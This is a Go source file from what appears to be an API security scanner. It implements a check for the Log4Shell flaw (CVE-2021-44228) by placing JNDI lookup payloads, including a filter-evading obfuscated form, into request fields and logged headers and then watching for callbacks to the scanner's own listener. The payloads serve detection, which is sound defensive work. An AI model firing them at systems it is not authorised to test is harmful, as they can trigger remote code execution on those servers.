package check

import (
	"context"
	"fmt"
	"strings"
	"time"

	"github.com/crenel-project/crenel/internal/scan/graph"
	"github.com/crenel-project/crenel/internal/scan/scenario"
	"github.com/crenel-project/crenel/internal/scan/world"
)

var (
	_ = register(&Check{
		ID: "log-lookup", Title: "What is logged is worked out, and calls out",
		OWASP: "API8:2023", CWE: "CWE-917", WSTG: "WSTG-INPV-18",
		CVSS:  "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N",
		About: "Puts lookups of the directory kind (${jndi:ldap://…}, CVE-2021-44228 and its like), at an address of the scanner's own listener, into texts and into the headers that are logged.",
		Proof: "The target called that address by LDAP or HTTP, which nobody else knows, twice in two runs. Controls: the same text without the lookup calls nobody.",
		Fix:   "Take log4j-core 2.17.1 or newer, or remove JndiLookup; never let what is logged be worked out.",
		Mode:  Default, Dirty: true,
		Run: logLookup,
	})
)

// jndi is the lookup, plain and as filters overlook it; %s is the listener's host and key.
var jndi = []string{"${jndi:ldap://%s}", "${${lower:j}ndi:${lower:l}dap://%s}"}

// loggedHeaders are what servers log of requests.
var loggedHeaders = []string{"User-Agent", "Referer", "X-Forwarded-For", "X-Api-Version", "Accept-Language"}

// soon is how long what one request makes the target call is waited for.
const soon = 400 * time.Millisecond

func logLookup(ctx context.Context, p *Probe) error {
	if p.Listener == nil {
		return nil
	}
	bare := func(address string) string {
		_, rest, _ := strings.Cut(address, "://")
		return rest
	}
	// All inputs and headers of an operation at once: few programs do it, and one
	// call tells whether this one does.
	type sent struct {
		op      *graph.Op
		call    *world.Call
		address string
	}
	var list []sent
	for _, op := range p.Ops() {
		call, base, err := p.working(ctx, op)
		if err != nil {
			return err
		}
		if call == nil || base.Status == 429 || len(list) >= 60 {
			continue
		}
		address := p.Listener.Address()
		text := strings.ReplaceAll(jndi[1], "%s", bare(address))
		c := call
		for _, in := range op.Inputs {
			if takesText(in) && in.In != "path" && !identifies(op, in) && in.Format == "" && !op.Has(graph.Register) {
				c = c.With(in.Where(), jsonString(text))
			}
		}
		r, err := p.World.Request(c)
		if err != nil {
			continue
		}
		for _, h := range loggedHeaders {
			r.Set(h, text)
		}
		p.Note(op, Clean)
		if _, err := p.Do(ctx, call.As, r); err != nil {
			return err
		}
		list = append(list, sent{op, call, address})
	}
	if len(list) > 0 {
		p.Listener.Called(ctx, list[len(list)-1].address, soon)
	}
	for _, s := range list {
		if len(p.Listener.Hits(s.address)) == 0 {
			continue
		}
		if done, err := p.lookedUp(ctx, s.op, s.call); err != nil || done {
			return err // one log is behind all operations
		}
	}
	return nil
}

// lookedUp finds the input or the header that is logged, and proves it.
func (p *Probe) lookedUp(ctx context.Context, op *graph.Op, call *world.Call) (bool, error) {
	prove := func(where string, write func(text string) (scenario.Step, error)) (bool, error) {
		for _, form := range jndi {
			var l steps
			plain, err := write("${listener.none}")
			plain.ID, plain.Part, plain.Note, plain.Expect = "plain", scenario.Control, "the address alone is called by nobody", []scenario.Expect{{Status: "any"}, {Uncalled: "none", By: soon}}
			l.add(plain, err)
			st, err := write(strings.ReplaceAll(form, "%s", "${listener.call.host}/${key}"))
			st.ID, st.Part, st.Note = "attack", scenario.Attack, "in a lookup it is called"
			st.Compute = []scenario.Compute{{Set: "key", Do: "text.after", Args: map[string]string{"text": "${listener.call}", "last": "/"}}}
			st.Expect = []scenario.Expect{{Status: "any"}, {Called: "call", By: 2 * time.Second}}
			l.add(st, err)
			if l.err != nil {
				return false, nil //nolint:nilerr // a call that cannot be written as a step proves nothing
			}
			ok, err := p.Prove(ctx, Hypothesis{
				Op: op, Where: where, Title: fmt.Sprintf("%s %s: what is logged of %s is worked out", op.Method, op.Path, where),
				Description: "A lookup in what is logged makes the server call an address that the caller names, and what is answered there may be run.",
				Scenario:    &scenario.Scenario{Name: "a lookup in the log", Steps: l.list},
			})
			if err != nil || ok {
				return ok, err
			}
		}
		return false, nil
	}
	for _, h := range loggedHeaders {
		ok, err := prove("header."+h, func(text string) (scenario.Step, error) {
			st, err := p.World.Step(call, call.Renew("look"))
			if err == nil {
				st.Send.Header = append(st.Send.Header, scenario.Pair{Name: h, Value: text})
			}
			return st, err
		})
		if err != nil || ok {
			return ok, err
		}
	}
	for _, in := range op.Inputs {
		if !takesText(in) || in.In == "path" || identifies(op, in) || in.Format != "" {
			continue
		}
		ok, err := prove(in.Where(), func(text string) (scenario.Step, error) {
			bind := call.Renew("look")
			bind[in.Where()] = jsonString(text)
			return p.World.Step(call, bind)
		})
		if err != nil || ok {
			return ok, err
		}
	}
	return false, nil
}
